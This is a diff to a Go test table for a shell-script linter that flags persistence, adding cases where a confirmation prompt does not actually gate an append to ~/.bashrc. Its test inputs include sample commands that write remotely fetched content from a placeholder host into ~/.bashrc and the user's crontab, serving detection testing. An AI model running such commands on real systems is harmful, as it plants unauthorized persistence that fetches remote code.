@@ -136,6 +136,8 @@ var codeCases = []lintCase{
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\ncase $ok in\n  [yY]*) cat \"$CFG\" >> ~/.bashrc ;;\nesac\n", "note", 3},
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\nif [[ $ok == [yY]* ]]; then echo ok; fi\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok == [yY]* ]] || exit 1\necho \"$(curl -s https://x.example/a)\" >> ~/.bashrc\n", "warning", 3},
+	{"s.sh", "persistence", "check() { read -r -p \"ok? [y/N] \" a; [[ $a == [yY]* ]] || return 1; }\ncheck\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
+	{"s.sh", "persistence", "read -r -p \"ok? [y/N] \" a\n( [[ $a == [yY]* ]] || exit 1 )\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
 	// The user's crontab with lines left out adds nothing that runs.
 	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
 	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
